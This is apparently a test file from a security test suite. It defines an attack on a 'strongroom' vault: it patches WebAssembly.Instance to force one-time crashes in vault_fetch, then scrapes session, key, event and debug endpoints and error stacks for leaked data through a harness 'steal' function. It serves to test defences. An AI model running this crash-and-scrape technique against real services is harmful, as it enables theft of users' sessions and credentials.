import { attack } from "../attack.js";

export default attack({
  name: "a crash of the wasm, and what the worker says after it",
  threat: "single-execution theft",
  target: "strongroom",
  alone: true,
  workerPrelude: `
    const { Instance } = WebAssembly;
    WebAssembly.Instance = function (module, imports) {
      const { exports } = new Instance(module, imports);
      const vault_fetch = (vault, event) => {
        if (!event.request.url.includes("trap")) return exports.vault_fetch(vault, event);
        if (self.trapped === event.request.url) return exports.vault_fetch(vault, event);
        self.trapped = event.request.url;
        throw new WebAssembly.RuntimeError("unreachable");
      };
      const instance = Object.create(Instance.prototype);
      Object.defineProperty(instance, "exports", { value: { ...exports, vault_fetch } });
      return instance;
    };`,
  async payload(it) {
    addEventListener("error", ({ message, error }) => it.steal(message, String(error?.stack)));
    for (const url of [`${it.apiUrl}me?trap=1`, "/auth/session?trap=2", `${it.apiUrl}me?trap=3`]) {
      const response = await fetch(url).catch(
        (error: unknown) => void it.steal(String(error), (error as Error).stack),
      );
      it.steal([...(response?.headers ?? [])], await response?.text());
      for (const path of ["session", "keep?key=x", "events", "debug"]) {
        const after = await fetch(`/auth/${path}`, { signal: AbortSignal.timeout(400) }).catch(
          () => undefined,
        );
        it.steal(await after?.text().catch(String));
      }
    }
  },
});
